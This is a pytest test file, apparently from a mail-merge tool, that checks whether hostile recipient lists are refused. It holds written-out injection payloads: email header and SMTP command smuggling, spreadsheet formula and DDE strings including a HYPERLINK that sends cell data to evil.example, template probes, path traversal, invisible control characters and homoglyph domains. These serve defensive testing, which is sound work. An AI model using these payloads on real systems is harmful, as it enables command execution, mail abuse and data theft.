"""Lists that somebody made to do harm, or that came along broken: each is refused with its row, and nothing is sent.

What is data stays data: it becomes no field of a letter's head, no command to a server, no formula and no template.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from planpress.cli import main
from planpress.errors import Fault, Grade
from planpress.mailing.recipients import LONGEST_FIELD
from tests.mailing.lists import listed, mailing_project, read_list, read_workbook, rows

HEADER = "address,name,organisation,clusters,greeting"
GOOD = ["a@one.example", "Ann", "Example Ltd", "ships", "Dear Ann"]
COLUMNS = HEADER.split(",")


def with_cell(column: str, text: str) -> list[str]:
    return [text if name == column else cell for name, cell in zip(COLUMNS, GOOD, strict=True)]


def read_cell(root: Path, column: str, text: str) -> tuple[Fault, ...]:
    """What is wrong with a list whose third row has a cell of this text; the rows round it are sound."""
    quoted = ",".join('"' + cell.replace('"', '""') + '"' for cell in with_cell(column, text))
    found, faults = read_list(root, f"{HEADER}\nx@one.example,,,,\n{quoted}\ny@one.example,,,,\n")
    assert [one.key for one in found if one.key[0] in "xy"] == ["x@one.example", "y@one.example"]
    return faults


def refused(faults: tuple[Fault, ...], what: str, column: str) -> None:
    assert (what, 3, column, Grade.ERROR) in [
        (one.what, one.place.row, one.place.column, one.grade) for one in faults
    ], rows(faults)


# ------------------------------------------------------------------------------------- fields of the head

BREAKS = ["\r\n", "\n", "\r", "\u2028", "\u2029"]


@pytest.mark.parametrize("sign", BREAKS)
@pytest.mark.parametrize("column", COLUMNS)
def test_no_cell_begins_another_field_of_the_head(tmp_path: Path, column: str, sign: str) -> None:
    before = "ann@one.example" if column == "address" else "Ann"
    refused(read_cell(tmp_path, column, f"{before}{sign}Bcc: everybody@evil.example"), "Line break", column)


@pytest.mark.parametrize(
    "text", ["ann@one.example>\nRCPT TO:<z@evil.example", "ann@one.example> SIZE=1", "<a@b.example>,<c@d.example>"]
)
def test_no_address_becomes_another_command_to_the_server(tmp_path: Path, text: str) -> None:
    faults = read_cell(tmp_path, "address", text)
    assert [(one.place.row, one.place.column) for one in faults] == [(3, "address")]


@pytest.mark.parametrize("column", COLUMNS)
def test_a_cell_of_a_workbook_begins_no_other_field_either(tmp_path: Path, column: str) -> None:
    """Excel writes a carriage return as _x000D_ (ECMA-376 Part 1, 22.9.2.19)."""
    before = "ann@one.example" if column == "address" else "Ann"
    cell = f"{before}_x000D_\nBcc: everybody@evil.example"
    _, faults = read_workbook(tmp_path, [COLUMNS, ["x@one.example"], with_cell(column, cell)])
    refused(tuple(one for one in faults if one.place.cell), "Line break", column)


@pytest.mark.parametrize("sign", ["\u202e", "\u2066", "\u200b", "\ue000"])
@pytest.mark.parametrize("column", ["address", "name", "organisation", "greeting"])
def test_nothing_unseen_stands_in_a_cell(tmp_path: Path, column: str, sign: str) -> None:
    refused(read_cell(tmp_path, column, f"a{sign}nn@one.example"), "Control character", column)


def test_a_null_byte_or_an_escape_sequence_makes_the_list_unreadable(tmp_path: Path) -> None:
    for number, sign in enumerate("\x00\x1b\x07"):
        found, faults = read_list(tmp_path / str(number), f"{HEADER}\na@one.example,A{sign}nn,,,\n")
        assert not found and faults[0].place.line == 2


# ------------------------------------------------------------------------------------- formulas

FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "+cmd|x", "-cmd|x", "@SUM(A1)",
            "＝1+1", "＋SUM(A1)", "－SUM(A1)", "＠SUM(A1)", "-1+cmd|'/C calc'!A0", "+1 =x"]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("column", ["name", "organisation", "clusters", "greeting"])
def test_what_a_spreadsheet_would_run_is_refused(tmp_path: Path, column: str, text: str) -> None:
    refused(read_cell(tmp_path, column, text), "Formula in a list", column)


@pytest.mark.parametrize("text", ["=a@one.example", "+a@one.example", "-a@one.example", "@one.example"])
def test_no_address_begins_as_a_formula(tmp_path: Path, text: str) -> None:
    refused(read_cell(tmp_path, "address", text), "Formula for an address", "address")


@pytest.mark.parametrize("text", ["+49 (0)411 12-34", "+86 411 1234 5678", "-12.5%", "-3", "-", "A = B", "1+1"])
def test_telephone_numbers_and_figures_are_none(tmp_path: Path, text: str) -> None:
    (ann,) = listed(tmp_path, f"address,telephone\na@one.example,{text}\n")
    assert ann.fields == {"telephone": text}


def test_a_formula_of_a_workbook_is_read_as_its_result_or_refused(tmp_path: Path) -> None:
    """openpyxl writes formulas without results; of those with one the result is what everybody sees."""
    _, faults = read_workbook(tmp_path, [["address", "name"], ["a@one.example", "=1+1"]])
    assert [(one.what, one.place.cell) for one in faults] == [("Formula without a value", "B2")]


def test_a_text_of_a_workbook_that_looks_like_a_formula_is_refused_with_its_cell(tmp_path: Path) -> None:
    _, faults = read_workbook(tmp_path, [["address", "name"], ["a@one.example", "+cmd|x"]])
    assert [(one.what, one.place.cell) for one in faults] == [("Formula in a list", "B2")]


# ------------------------------------------------------------------------------------- lengths, looks, templates


def test_cells_of_5000_characters_are_refused(tmp_path: Path) -> None:
    for number, column in enumerate(COLUMNS):
        faults = read_cell(tmp_path / str(number), column, "x" * 5000)
        refused(faults, "Text too long", column)
    (ann,) = listed(tmp_path / "well", f"address,greeting\na@one.example,{'x' * LONGEST_FIELD}\n")
    assert len(ann.fields["greeting"]) == LONGEST_FIELD


def test_an_address_that_looks_like_anothers_is_refused_and_shown_as_it_is(tmp_path: Path) -> None:
    (fault,) = read_cell(tmp_path, "address", "office@bаnk.example")
    refused((fault,), "Domain that looks like another", "address")
    assert "bаnk mixes scripts: Latin b and Cyrillic а; it goes to xn--bnk-6cd.example" in fault.reason


def test_two_ways_to_write_one_domain_are_one_recipient(tmp_path: Path) -> None:
    _, faults = read_list(tmp_path, "address\na@büro.example\na@BU\u0308RO.example\na@xn--bro-hoa.example\n")
    assert [(one.what, one.place.row) for one in faults] == [("Address given twice", 3), ("Address given twice", 4)]


@pytest.mark.parametrize(
    "text", ["{{ 7 * 7 }}", "{% for x in plan %}", "{{ ''.__class__ }}", "<script>x</script>", "../../x"]
)
def test_templates_and_markup_in_a_cell_stay_the_data_that_they_are(tmp_path: Path, text: str) -> None:
    (ann,) = listed(tmp_path, f"address,name,greeting\na@one.example,{text},{text}\n")
    assert (ann.mailbox.name, ann.fields["greeting"]) == (text, text)


def test_a_column_reaches_into_nothing_that_is_not_the_list_s(tmp_path: Path) -> None:
    for number, name in enumerate(["__class__", "_private", "1st", "a.b", "recipient", "{{x}}"]):
        _, faults = read_list(tmp_path / str(number), f"address,{name}\na@one.example,x\n")
        assert [one.place.row for one in faults] == [1], name


# ------------------------------------------------------------------------------------- all of it, told


def test_check_tells_every_row_of_a_hostile_list_and_goes_out_with_3(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    text = (
        "address,name\n"
        'a@one.example,"Evil\r\nBcc: z@evil.example"\n'
        f"b@one.example,{'x' * 5000}\n"
        "c@one.example,=cmd|' /C calc'!A0\n"
        "office@bаnk.example,Dan\n"
        "e@one.example,E\u202egnp.exe\n"
        "A@one.example,Ann\n"
        "a@one.example,Ann\n"
    )
    mailing_project(tmp_path, lists={"list.csv": text})
    assert main(["check", "ostland"], tmp_path) == 3
    told = [line.split(": error: ") for line in capsys.readouterr().err.splitlines() if ": error: " in line]
    assert [(place.partition("list.csv:")[2], what.partition(":")[0]) for place, what in told] == [
        ("2:name", "Line break"),
        ("3:name", "Text too long"),
        ("4:name", "Formula in a list"),
        ("5:address", "Domain that looks like another"),
        ("6:name", "Control character"),
        ("7:address", "Address given twice"),
        ("8:address", "Address given twice"),
    ]
